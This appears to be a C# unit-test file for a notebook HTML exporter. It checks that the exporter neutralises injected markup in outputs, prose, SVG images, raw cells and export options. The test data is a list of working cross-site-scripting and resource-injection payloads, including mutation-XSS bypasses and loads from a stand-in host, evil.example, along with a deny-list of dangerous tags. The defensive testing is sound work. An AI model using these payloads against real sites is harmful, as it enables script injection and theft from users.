namespace Teaching.Notebooks.Tests;

public sealed partial class HtmlExporterTests
{
    public static TheoryData<string> Attacks { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/pixel.png alt=x>",
        "<img alt=x srcset='https://evil.example/a.png 2x' src='data:image/png;base64,AAAA'>",
        "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
        "<svg><use href='https://evil.example/x.svg#a'/><image href='https://evil.example/x.png'/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>",
        "<svg><rect fill='url(https://evil.example/#a)' style='filter:url(//evil.example/#b)'/></svg>",
        "<a href='javascript:alert(1)'>x</a><a href=' java\tscript:alert(1)'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a><a href=vbscript:x>x</a>",
        "<a href='//evil.example'>x</a><a href='https://evil.example'>x</a><a href='\\\\evil.example'>x</a>",
        "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=q><button formaction='javascript:alert(1)'>go</button></form>",
        "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/x.css'; body{display:none}</style>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
        "<div style=\"background:url(https://evil.example/x.png);position:fixed;width:expression(alert(1))\">x</div>",
        "<div style=\"background:u\\72l(https://evil.example/x.png)\">x</div><div style=\"color:red}</style><script>alert(1)</script>\">x</div>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mglyph></table></mtext></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math><math href='javascript:alert(1)'><mi>x</mi></math>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript><template><img src=x onerror=alert(1)></template>",
        "<details open ontoggle=alert(1)><summary>x</summary></details><video src=https://evil.example/v poster=https://evil.example/p></video>",
        "<cnn-bench onclick=alert(1)><script>alert(1)</script><script type=module>alert(1)</script></cnn-bench>",
        "<figure data-plotly='{\"data\":[{\"type\":\"bar\",\"name\":\"<a href=https://evil.example>x</a>\"}],\"layout\":{\"width\":9,\"height\":9,\"images\":[{\"source\":\"https://evil.example/x.png\"}]}}'>x</figure>",
        "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void What_outputs_try_to_run_or_load_does_not_reach_the_page(string attack) =>
        AssertHarmless(ExportSamples.Code("a", "1", ExportSamples.Html(attack + "<p>after</p>")), isOutput: true);

    [Theory]
    [MemberData(nameof(Attacks))]
    public void What_prose_tries_to_run_or_load_does_not_reach_the_page(string attack) =>
        AssertHarmless(ExportSamples.Prose("a", "Text\n\n" + attack + "\n\nand " + attack), isOutput: false);

    [Theory]
    [MemberData(nameof(Attacks))]
    public void What_pictures_try_to_run_or_load_does_not_reach_the_page(string attack)
    {
        var svg = $"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><g>{attack}</g><rect width=\"9\" height=\"9\"/></svg>";
        AssertHarmless(ExportSamples.Code("a", "1", ExportSamples.Html($"<img alt=\"x\" src=\"{ExportSamples.SvgAddress(svg)}\">")), isOutput: true);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Text_stays_text_wherever_it_comes_from(string attack)
    {
        var page = Page(
            ExportSamples.Code("a", attack, new StreamOutput("stdout", attack), ExportSamples.Text(attack), new ErrorOutput(attack, attack, [attack])),
            new Cell(CellKind.Raw, "b", attack),
            ExportSamples.Prose("c", "```\n" + attack + "\n```\n\n`" + attack.Replace("`", "", StringComparison.Ordinal).ReplaceLineEndings(" ") + "`"));
        Assert.Empty(page.QuerySelectorAll("main img, main svg, main script, main iframe, main style"));
        Assert.Contains(attack.Trim(), page.QuerySelector(".stdout")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(attack, page.QuerySelector(".raw")!.TextContent);
        Assert.Equal(attack, page.QuerySelector("pre.source code")!.TextContent);
    }

    [Fact]
    public void Options_are_text_too()
    {
        const string Attack = "\"><script>alert(1)</script>";
        var link = new PageLink("x.html" + Attack, Attack);
        var html = HtmlExporter.Export(ExportSamples.Tiny, new ExportOptions { Language = Attack, Title = Attack, Course = Attack, Place = Attack, Index = link, Previous = link, Next = link, StaleReason = Attack });
        Assert.DoesNotContain("<script>alert", html, StringComparison.Ordinal);
    }

    [Fact]
    public void An_output_cannot_pose_as_a_part_of_the_page()
    {
        var page = Page(ExportSamples.Code("a", "1", ExportSamples.Html("<p id=\"main\">x</p><p id=\"status\">y</p><a href=\"#main\">z</a>")));
        Assert.Equal("main", page.GetElementById("main")!.LocalName);
        Assert.Equal("x", page.GetElementById("main-2")!.TextContent);
        Assert.Equal("#main-2", page.QuerySelector(".output a")!.GetAttribute("href"));
    }

    [Fact]
    public void A_benchs_numbers_stay_as_data_inside_its_element()
    {
        var page = Page(ExportSamples.Code("a", "1", ExportSamples.Html("<cnn-bench data-state=\"a\"><p>static</p><script type=\"application/json\">{\"k\":[1]}</script></cnn-bench><script type=\"application/json\">{}</script>")));
        Assert.Equal("{\"k\":[1]}", Assert.Single(page.QuerySelectorAll("main script[type='application/json']")).TextContent);
        Assert.Equal("a", page.QuerySelector("cnn-bench")!.GetAttribute("data-state"));
    }

    private static void AssertHarmless(Cell cell, bool isOutput)
    {
        var page = Page(cell);
        var main = page.QuerySelector("main")!;
        foreach (var element in main.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, (string[])["script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "input", "template", "noscript", "foreignObject", "animate", "set", "annotation-xml", "mglyph", "video", "textarea", "xmp", "plaintext"]);
            Assert.All(element.Attributes, attribute =>
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                var value = new string([.. attribute.Value.Where(letter => !char.IsControl(letter))]).Trim();
                Assert.False(value.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase) || value.StartsWith("vbscript:", StringComparison.OrdinalIgnoreCase) || value.StartsWith("data:text", StringComparison.OrdinalIgnoreCase), value);
                if (attribute.Name is not ("alt" or "title") && (isOutput || element.LocalName != "a"))
                {
                    Assert.DoesNotContain("evil.example", value, StringComparison.Ordinal);
                }
            });
        }

        Assert.DoesNotContain("evil.example", page.QuerySelector("style")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(2, page.QuerySelectorAll("script").Length);
        Assert.Single(page.QuerySelectorAll("style"));
    }
}
